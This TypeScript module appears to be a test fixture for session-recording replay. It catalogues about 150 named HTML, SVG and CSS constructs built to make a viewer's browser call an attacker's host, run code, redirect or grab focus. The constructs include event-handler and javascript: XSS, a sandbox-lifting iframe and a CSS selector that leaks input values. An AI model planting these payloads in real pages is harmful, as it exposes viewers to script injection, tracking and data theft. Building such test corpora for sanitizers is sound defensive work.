/** What a recording can hold to make the viewer's browser fetch from its maker, run their code, go
 * elsewhere or give up the keyboard: one to a line, by name. */
import { element, svg, text, type Attributes, type HostileNode } from './hostile-nodes.ts';

/** Where a construct leads, told apart by construct and by the way it came into the page. */
export interface Lure {
  /** An address of the attacker's. */
  readonly url: (leaf?: string) => string;
  /** The attacker's host and port, for what names no path. */
  readonly host: string;
  /** Code that tells when it runs, and then calls home. */
  readonly code: string;
}

type Construct = (to: Lure) => HostileNode;

const script = (attributes: Attributes, words = ''): HostileNode =>
  element('script', attributes, [text(words)]);
const image = (attributes: Attributes) =>
  element('img', { width: '9', height: '9', ...attributes });
const link = (rel: string, more: Attributes) => element('link', { rel, ...more });
const onEvery = (code: string, ...names: string[]): Attributes =>
  Object.fromEntries(names.map((name) => [name, code]));

export const constructs: Readonly<Record<string, Construct>> = {
  // Scripts
  'inline script': ({ code }) => script({}, code),
  'remote script': ({ url }) => script({ src: url() }),
  'module script': ({ url, code }) => script({ type: 'module' }, `import '${url()}'; ${code}`),
  'script in capitals': ({ code, url }) => element('SCRIPT', { src: url() }, [text(code)]),
  'import map': ({ url }) => script({ type: 'importmap' }, `{"imports":{"a":"${url()}"}}`),
  'speculation rules': ({ url }) =>
    element('SCRIPT', { type: 'speculationrules' }, [
      text(`{"prefetch":[{"urls":["${url()}"]}],"prerender":[{"urls":["${url('pre')}"]}]}`),
    ]),
  'svg script': ({ url, code }) => svg('svg', {}, [svg('script', { href: url() }, [text(code)])]),
  'svg script by prefix': ({ url, code }) =>
    svg('svg', {}, [svg('svg:script', { href: url() }, [text(code)])]),
  'no script': ({ url }) => element('noscript', {}, [image({ src: url() })]),

  // Event handlers
  'image error': ({ code }) => image({ src: 'nowhere:', ...onEvery(code, 'onerror', 'onload') }),
  'svg load': ({ code }) => svg('svg', onEvery(code, 'onload', 'onbegin', 'onfocusin')),
  'details toggle': ({ code }) => element('details', { open: true, ontoggle: code }, [text('x')]),
  'animation handlers': ({ code }) =>
    element('div', {
      style: 'animation: hostile 1ms; transition: all 1ms',
      ...onEvery(code, 'onanimationstart', 'onanimationend', 'ontransitionend'),
    }),
  'pointer handlers': ({ code }) =>
    element('button', onEvery(code, 'onclick', 'onpointerdown', 'onmousemove', 'onfocus'), [
      text('press'),
    ]),
  'marquee handlers': ({ code }) => element('marquee', onEvery(code, 'onstart'), [text('x')]),
  'autofocus handler': ({ code }) =>
    element('input', { autofocus: true, tabindex: '1', ...onEvery(code, 'onfocus', 'onblur') }),
  'content visibility handler': ({ code }) =>
    element('div', {
      style: 'content-visibility: auto',
      ...onEvery(code, 'oncontentvisibilityautostatechange'),
    }),

  // Pictures and media
  image: ({ url }) => image({ src: url() }),
  'image set': ({ url }) => image({ srcset: `${url('1x')} 1x, ${url('2x')} 2x`, sizes: '100vw' }),
  'lazy image': ({ url }) => image({ src: url(), loading: 'lazy' }),
  'low source': ({ url }) => image({ lowsrc: url('low'), dynsrc: url('dyn') }),
  'picture source': ({ url }) =>
    element('picture', {}, [element('source', { srcset: url() }), image({})]),
  'image by rr_dataURL': ({ url }) => image({ rr_dataURL: url() }),
  'image by rr_src': ({ url }) => image({ rr_src: url() }),
  'canvas by rr_dataURL': ({ url }) => element('canvas', { rr_dataURL: url() }),
  'image input': ({ url }) => element('input', { type: 'image', src: url() }),
  'table background': ({ url }) => element('table', { background: url() }),
  'image map': ({ url }) =>
    element('map', { name: 'm' }, [element('area', { href: url(), ping: url('ping') })]),
  video: ({ url }) => element('video', { src: url(), poster: url('poster'), autoplay: true }),
  audio: ({ url }) => element('audio', { src: url(), autoplay: true, preload: 'auto' }),
  'media source and track': ({ url }) =>
    element('video', { autoplay: true, rr_mediaState: 'played', rr_mediaCurrentTime: 1 }, [
      element('source', { src: url() }),
      element('track', { src: url('track'), kind: 'captions', default: true }),
    ]),

  // Documents in documents
  frame: ({ url }) => element('iframe', { src: url() }),
  'frame in capitals': ({ url }) => element('IFRAME', { SRC: url() }),
  'frame by rr_src': ({ url }) => element('iframe', { rr_src: url() }),
  'frame document': ({ url, code }) =>
    element('iframe', { srcdoc: `<script>${code}</script><img src="${url()}">` }),
  'frame of script': ({ code }) => element('iframe', { src: `javascript:${code}` }),
  'frame of data': ({ code }) =>
    element('iframe', { src: `data:text/html,<script>${encodeURIComponent(code)}</script>` }),
  'frame that lifts its sandbox': ({ url, code }) =>
    element('iframe', {
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
      allow: 'fullscreen; camera; microphone',
      srcdoc: `<script>${code};top.location='${url()}'</script>`,
    }),
  'frame set': ({ url }) => element('frameset', {}, [element('frame', { src: url() })]),
  'fenced frame': ({ url }) => element('fencedframe', { src: url() }),
  portal: ({ url }) => element('portal', { src: url() }),
  object: ({ url }) => element('object', { data: url(), type: 'text/html' }),
  'object of script': ({ code }) => element('object', { data: `javascript:${code}` }),
  embed: ({ url }) => element('embed', { src: url(), type: 'text/html' }),
  applet: ({ url }) =>
    element('applet', { code: url(), codebase: url('base'), archive: url('jar') }),
  template: ({ url, code }) =>
    element('template', { shadowrootmode: 'open' }, [image({ src: url() }), script({}, code)]),

  // Going elsewhere
  refresh: ({ url }) => element('meta', { 'http-equiv': 'refresh', content: `0;url=${url()}` }),
  'refresh in capitals': ({ url }) =>
    element('META', { 'HTTP-EQUIV': 'REFRESH', content: `0; URL='${url()}'` }),
  'refresh to script': ({ code }) =>
    element('meta', { 'http-equiv': 'refresh', content: `0;url=javascript:${code}` }),
  'meta policy': () =>
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *' }),
  'meta cookie': () => element('meta', { 'http-equiv': 'set-cookie', content: 'hostile=1' }),
  base: ({ url }) => element('base', { href: url(), target: '_top' }),
  'link to script': ({ code }) => element('a', { href: `javascript:${code}` }, [text('a link')]),
  'link to the top': ({ url }) =>
    element('a', { href: url(), target: '_top', ping: url('ping') }, [text('a link')]),
  'link to a window': ({ url }) =>
    element('a', { href: url(), target: '_blank', rel: 'opener' }, [text('a link')]),
  download: ({ url }) => element('a', { href: url(), download: 'hostile.exe' }, [text('a link')]),
  'custom protocol': () => element('a', { href: 'web+hostile:open', autofocus: true }, [text('x')]),
  'attribution source': ({ url }) => image({ attributionsrc: url(), src: url('img') }),
  form: ({ url }) =>
    element('form', { action: url(), method: 'post', target: '_blank' }, [
      element('input', { name: 'q', autofocus: true }),
      element('button', { type: 'submit', formaction: url('button') }, [text('send')]),
    ]),
  'form to script': ({ code }) =>
    element('form', { action: `javascript:${code}` }, [
      element('input', { type: 'submit', formaction: `javascript:${code}`, autofocus: true }),
    ]),
  'form with isindex': ({ url }) => element('isindex', { action: url(), prompt: 'x' }),
  'modal dialog': ({ url }) =>
    element('dialog', { open: true, rr_open_mode: 'modal' }, [
      element('form', { method: 'dialog', action: url() }, [
        element('input', { autofocus: true, value: 'take the keyboard' }),
      ]),
    ]),
  popover: ({ code }) =>
    element('div', { popover: 'auto', ...onEvery(code, 'onbeforetoggle', 'ontoggle') }, [
      element('button', { commandfor: 'x', command: 'show-modal', autofocus: true }, [text('x')]),
    ]),
  'editable and focused': () => element('div', { contenteditable: true, autofocus: true }),

  // Links that fetch or connect
  stylesheet: ({ url }) => link('stylesheet', { href: url() }),
  'alternate stylesheet': ({ url }) => link('alternate stylesheet', { href: url(), title: 'x' }),
  'stylesheet with handlers': ({ url, code }) =>
    link('stylesheet', { href: url(), ...onEvery(code, 'onload', 'onerror') }),
  preload: ({ url }) => link('preload', { as: 'image', href: url() }),
  'preload of a set': ({ url }) => link('preload', { as: 'image', imagesrcset: `${url()} 1x` }),
  'preload of a font': ({ url }) => link('preload', { as: 'font', href: url(), crossorigin: '' }),
  'preload to fetch': ({ url }) => link('preload', { as: 'fetch', href: url(), crossorigin: '' }),
  prefetch: ({ url }) => link('prefetch', { href: url() }),
  prerender: ({ url }) => link('prerender', { href: url() }),
  'next page': ({ url }) => link('next', { href: url() }),
  'module preload': ({ url }) => link('modulepreload', { href: url() }),
  preconnect: ({ host }) => link('preconnect', { href: `http://${host}` }),
  'preconnect in capitals': ({ host }) => element('LINK', { REL: 'PreConnect', HREF: `//${host}` }),
  'preconnect among others': ({ host }) => link('x preconnect\ty', { href: `http://${host}` }),
  'name looked up ahead': ({ host }) => link('dns-prefetch', { href: `//${host}` }),
  'names looked up by meta': ({ url }) =>
    element('div', {}, [
      element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
      element('a', { href: url() }, [text('a link')]),
    ]),
  icon: ({ url }) => link('icon shortcut apple-touch-icon', { href: url() }),
  manifest: ({ url }) => link('manifest', { href: url() }),
  'html import': ({ url }) => link('import', { href: url() }),
  'compression dictionary': ({ url }) => link('compression-dictionary', { href: url() }),
  'search description': ({ url }) => link('search', { href: url() }),
  'expected by the view transition': ({ url }) =>
    link('expect', { href: url(), blocking: 'render' }),

  // SVG, MathML, XML
  'svg use': ({ url }) => svg('svg', {}, [svg('use', { href: `${url()}#x` })]),
  'svg use by xlink': ({ url }) => svg('svg', {}, [svg('use', { 'xlink:href': `${url()}#x` })]),
  'svg use of data': ({ code }) =>
    svg('svg', {}, [svg('use', { href: `data:image/svg+xml,<svg onload="${code}"/>#x` })]),
  'svg image': ({ url }) =>
    svg('svg', {}, [
      svg('image', { href: url(), 'xlink:href': url('x'), width: '9', height: '9' }),
    ]),
  'svg foreign object': ({ url, code }) =>
    svg('svg', {}, [
      svg('foreignObject', { width: '9', height: '9' }, [
        image({ src: url(), onerror: code }),
        element('iframe', { src: url('frame') }),
      ]),
    ]),
  'svg filter image': ({ url }) =>
    svg('svg', {}, [svg('filter', {}, [svg('feImage', { href: url(), 'xlink:href': url('x') })])]),
  'svg pattern and mask': ({ url }) =>
    svg('svg', {}, [svg('rect', { fill: `url(${url()}#x)`, mask: `url(${url('mask')}#x)` })]),
  'svg animated address': ({ code }) =>
    svg('svg', {}, [
      svg('a', {}, [
        svg('animate', { attributeName: 'href', values: `javascript:${code}`, onbegin: code }),
        svg('set', { attributeName: 'onmouseover', to: code, onend: code, dur: '1ms' }),
        svg('text', { x: '9', y: '9' }, [text('a link')]),
      ]),
    ]),
  'svg animated image': ({ url }) =>
    svg('svg', {}, [
      svg('image', { width: '9', height: '9' }, [
        svg('set', { attributeName: 'href', to: url(), begin: '0s' }),
      ]),
    ]),
  'svg style': ({ url }) => svg('svg', {}, [svg('style', {}, [text(`@import url(${url()});`)])]),
  'math link': ({ url, code }) =>
    element('math', { href: url() }, [
      element('mtext', { href: `javascript:${code}` }, [text('x')]),
    ]),
  'xml base': ({ url }) =>
    svg('svg', { 'xml:base': url() }, [svg('image', { href: 'below', width: '9', height: '9' })]),
  'custom element': ({ url, code }) =>
    element('hostile-element', { src: url(), is: 'hostile-element', onclick: code }, [text('x')]),
  'built-in made custom': ({ url, code }) =>
    element('img', { is: 'hostile-image', src: url(), onerror: code }),
};

/** Whole style sheets. */
export const sheets: Readonly<Record<string, (to: Lure) => string>> = {
  'imported sheet': ({ url }) => `@import url("${url()}");`,
  'imported sheet without url()': ({ url }) => `@import "${url()}" layer(x) supports(color: red);`,
  'imported sheet in escapes': ({ url }) => `@\\69mport u\\72l(${url()});`,
  'page background': ({ url }) => `html { background: url(${url()}) }`,
  'image-set()': ({ url }) => `body { background: image-set("${url()}" 1x, url(${url('2')}) 2x) }`,
  'cross-fade()': ({ url }) => `body { background: -webkit-cross-fade(url(${url()}), red, 50%) }`,
  font: ({ url }) => `@font-face { font-family: F; src: url(${url()}) } * { font-family: F }`,
  'font by range': ({ url }) =>
    `@font-face { font-family: G; src: url(${url()}); unicode-range: U+0-10FFFF } body { font: 9px G }`,
  cursor: ({ url }) => `html, body, * { cursor: url(${url()}), auto }`,
  'list style': ({ url }) => `body, li { display: list-item; list-style: url(${url()}) }`,
  content: ({ url }) => `body::before { content: url(${url()}) }`,
  'border image': ({ url }) => `body { border: 3px solid; border-image: url(${url()}) 1 }`,
  mask: ({ url }) => `body { mask: url(${url()}); -webkit-mask-image: url(${url('webkit')}) }`,
  filter: ({ url }) => `body { filter: url(${url()}#f); backdrop-filter: url(${url('back')}#f) }`,
  'clip path': ({ url }) => `body { clip-path: url(${url()}#c) }`,
  shape: ({ url }) => `img { float: left; shape-outside: url(${url()}) }`,
  'offset path': ({ url }) => `body { offset-path: url(${url()}#p) }`,
  'background by variable': ({ url }) =>
    `:root { --hostile: url(${url()}) } div, body { background-image: var(--hostile) }`,
  'background by registered variable': ({ url }) =>
    `@property --h { syntax: "<image>"; inherits: true; initial-value: url(${url()}) } body { background: var(--h) }`,
  'background by attr()': ({ url }) =>
    `body { --u: "${url()}"; background-image: image-set(var(--u) 1x) } div { background: attr(src type(<url>)) }`,
  'background in an animation': ({ url }) =>
    `@keyframes hostile { to { background-image: url(${url()}) } } body { animation: hostile 1ms infinite }`,
  'hover and focus': ({ url }) =>
    `:hover { background: url(${url()}) } .\\:hover { background: url(${url('rr')}) } :focus-within { background: url(${url('focus')}) }`,
  'value told by selector': ({ url }) => `input[value^="t"] { background: url(${url()}) }`,
  'view transition': ({ url }) =>
    `@view-transition { navigation: auto } ::view-transition { background: url(${url()}) }`,
  'counter style': ({ url }) =>
    `@counter-style h { system: cyclic; symbols: url(${url()}) } li { list-style: h }`,
  'behavior and binding': ({ url }) =>
    `body { behavior: url(${url()}); -moz-binding: url(${url('moz')}#x) }`,
  'namespace and document': ({ url }) => `@namespace url(${url()}); @charset "utf-8";`,
};

/** Single declarations: a property and its value. */
export const declarations: Readonly<Record<string, (to: Lure) => readonly [string, string]>> = {
  'declared background': ({ url }) => ['background-image', `url(${url()})`],
  'declared image set': ({ url }) => ['background', `image-set("${url()}" 1x)`],
  'declared cursor': ({ url }) => ['cursor', `url("${url()}"), auto`],
  'declared list style': ({ url }) => ['list-style-image', `url(${url()})`],
  'declared content': ({ url }) => ['content', `url(${url()})`],
  'declared mask': ({ url }) => ['-webkit-mask-image', `url(${url()})`],
  'declared filter': ({ url }) => ['filter', `url(${url()}#f)`],
  'declared variable': ({ url }) => ['--late', `url(${url()})`],
};
